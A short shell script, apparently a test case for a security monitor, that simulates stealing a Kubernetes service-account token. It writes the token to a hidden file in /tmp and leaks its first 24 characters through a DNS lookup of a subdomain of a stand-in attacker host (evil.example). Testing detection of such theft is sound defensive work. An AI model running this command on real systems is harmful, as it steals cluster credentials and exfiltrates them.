#!/bin/sh
. /opt/case/case.sh

bash -c 'IFS= read -r t </run/secrets/kubernetes.io/serviceaccount/token || :; printf %s "$t" >/tmp/.t; h=$(printf %s "${t:0:24}" | od -An -tx1 | tr -d " \n"); getent ahostsv4 "$h.t.evil.example" >/dev/null'
test -s /tmp/.t
took_place
